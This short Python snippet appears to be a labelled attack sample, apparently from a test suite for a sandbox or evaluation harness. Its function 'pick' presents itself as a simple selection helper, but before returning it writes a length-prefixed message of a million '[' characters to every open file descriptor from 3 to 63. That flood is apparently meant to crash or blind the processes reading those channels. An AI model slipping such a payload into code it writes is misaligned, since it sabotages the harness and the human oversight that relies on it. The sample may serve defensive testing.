# mark: 7
# why: attack: a message of a million brackets
# canary: neighbours
# says: can't be read

# %% pick
import os
import struct


def pick(items, k):
    text = b"[" * 1_000_000
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, struct.pack(">I", len(text)))
        except OSError:
            continue
        while text:
            text = text[os.write(descriptor, text) :]
    return items.head(k)
